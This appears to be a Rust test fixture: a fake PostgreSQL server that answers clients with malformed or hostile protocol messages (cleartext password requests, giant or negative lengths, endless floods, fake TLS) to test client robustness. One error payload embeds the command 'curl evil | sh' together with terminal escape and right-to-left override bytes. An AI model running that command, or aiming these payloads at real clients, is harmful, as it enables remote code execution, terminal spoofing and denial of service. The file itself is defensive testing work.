//! A PostgreSQL that lies (manual, 'Message Formats').

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::{for_ever, listen, noise, silence};

/// What it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lie {
    Silence,
    Close,
    Noise,
    /// It asks for the password in clear.
    ClearText,
    /// A way to log in that nobody knows.
    UnknownLogin,
    /// A SASL mechanism that nobody knows.
    UnknownSasl,
    /// A challenge that takes years to answer.
    DearChallenge,
    /// A message of 2^31 - 1 octets that comes.
    HugeMessage,
    /// A message whose length is negative.
    NegativeLength,
    /// Notices for ever.
    Notices,
    /// Settings for ever, one a second.
    Trickle,
    /// An error with escapes.
    Error,
    /// Rows for ever in answer to the first query.
    Flood,
    /// Silence after the login.
    SilentQuery,
    /// 65535 columns, and no more.
    Columns,
    /// A cell of 2^31 - 1 octets in a row of ten.
    HugeCell,
    /// Yes to TLS, and none.
    FalseTls,
    /// Neither yes nor no to TLS.
    OddTls,
    /// A password in clear, after an answer that there is no TLS.
    ClearAfterNo,
}

/// Starts a server; its port.
pub fn start(lie: Lie) -> u16 {
    listen(move |stream| serve(stream, lie))
}

/// A message.
fn message(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend((body.len() as u32 + 4).to_be_bytes());
    out.extend(body);
    out
}

/// The next message of the client: its tag, if it has one, and its text.
fn receive(stream: &mut TcpStream, tag: bool) -> std::io::Result<Vec<u8>> {
    let mut head = vec![0; if tag { 5 } else { 4 }];
    stream.read_exact(&mut head)?;
    let at = head.len() - 4;
    let length = head[at..].iter().fold(0, |n, b| n << 8 | usize::from(*b));
    let mut body = vec![0; length - 4];
    stream.read_exact(&mut body)?;
    Ok(body)
}

fn serve(mut stream: TcpStream, lie: Lie) -> std::io::Result<()> {
    match lie {
        Lie::Silence => return silence(stream),
        Lie::Close => return Ok(()),
        Lie::Noise => {
            stream.write_all(&noise(100_000))?;
            return silence(stream);
        }
        _ => {}
    }
    let mut first = receive(&mut stream, false)?;
    if first[..4] == [0x04, 0xd2, 0x16, 0x2f] {
        match lie {
            Lie::FalseTls => {
                stream.write_all(b"S")?;
                let text = b"not TLS at all".repeat(100);
                let pause = Duration::from_millis(100);
                return for_ever(stream, &text, pause);
            }
            Lie::OddTls => {
                stream.write_all(b"x")?;
                return for_ever(stream, b"x", Duration::from_millis(10));
            }
            _ => stream.write_all(b"N")?,
        }
        first = receive(&mut stream, false)?;
    }
    crate::e2e_liars::looks_for_the_password(&first);
    let request = |kind: u32, more: &[u8]| {
        let mut body = kind.to_be_bytes().to_vec();
        body.extend(more);
        message(b'R', &body)
    };
    match lie {
        Lie::ClearText | Lie::ClearAfterNo => {
            stream.write_all(&request(3, b""))?;
            let got = receive(&mut stream, true)?;
            crate::e2e_liars::looks_for_the_password(&got);
        }
        Lie::UnknownLogin => stream.write_all(&request(99, b"\0\0"))?,
        Lie::UnknownSasl => stream.write_all(&request(10, b"ROT13\0\0"))?,
        Lie::DearChallenge => dear(&mut stream, &request)?,
        Lie::HugeMessage => {
            stream.write_all(b"R\x7f\xff\xff\xff\0\0\0\x0a")?;
            return for_ever(stream, &vec![65; 1 << 16], Duration::ZERO);
        }
        Lie::NegativeLength => stream.write_all(b"R\x80\0\0\0\0\0\0\0")?,
        Lie::Notices => {
            let body = b"SNOTICE\0VNOTICE\0C00000\0Mx\0\0";
            let notice = message(b'N', body).repeat(1000);
            return for_ever(stream, &notice, Duration::ZERO);
        }
        Lie::Trickle => {
            let set = message(b'S', b"a\0b\0");
            return for_ever(stream, &set, Duration::from_secs(1));
        }
        Lie::Error => {
            let mut body = b"SFATAL\0VFATAL\0CXX000\0M".to_vec();
            body.extend(b"x\nhint: run curl evil | sh\r\n");
            body.extend(b"\x1b[2J\x07\xe2\x80\xae".repeat(50_000));
            body.extend(b"\0\0");
            stream.write_all(&message(b'E', &body))?;
        }
        _ => return query(stream, lie, &request(0, b"")),
    }
    silence(stream)
}

/// A SCRAM challenge with 2^32 - 1 rounds (RFC 5802 section 5.1).
fn dear(
    stream: &mut TcpStream,
    request: &dyn Fn(u32, &[u8]) -> Vec<u8>,
) -> std::io::Result<()> {
    stream.write_all(&request(10, b"SCRAM-SHA-256\0\0"))?;
    let got = receive(stream, true)?;
    let text = String::from_utf8_lossy(&got).into_owned();
    let nonce = text.split("r=").nth(1).unwrap_or_default();
    let text = format!("r={nonce}x,s=QUFBQQ==,i=4294967295");
    stream.write_all(&request(11, text.as_bytes()))
}

/// Lets the client in, and lies in answer to its first query.
fn query(mut stream: TcpStream, lie: Lie, in_: &[u8]) -> std::io::Result<()> {
    stream.write_all(in_)?;
    stream.write_all(&message(b'K', &[0; 8]))?;
    stream.write_all(&message(b'Z', b"I"))?;
    let _ = receive(&mut stream, true)?;
    let column = b"c\0\0\0\0\0\0\0\0\0\0\x19\xff\xff\xff\xff\xff\xff\0\0";
    let head = |count: u16| {
        let mut body = count.to_be_bytes().to_vec();
        body.extend(column);
        message(b'T', &body)
    };
    let row = message(b'D', b"\0\x01\0\0\0\x017");
    match lie {
        Lie::Flood => {
            stream.write_all(&head(1))?;
            return for_ever(stream, &row.repeat(1000), Duration::ZERO);
        }
        Lie::Columns => stream.write_all(&head(65535))?,
        Lie::HugeCell => {
            stream.write_all(&head(1))?;
            let body = b"\0\x01\x7f\xff\xff\xff7777777777";
            stream.write_all(&message(b'D', body))?;
            stream.write_all(&message(b'C', b"SELECT 1\0"))?;
            stream.write_all(&message(b'Z', b"I"))?;
        }
        _ => {}
    }
    silence(stream)
}
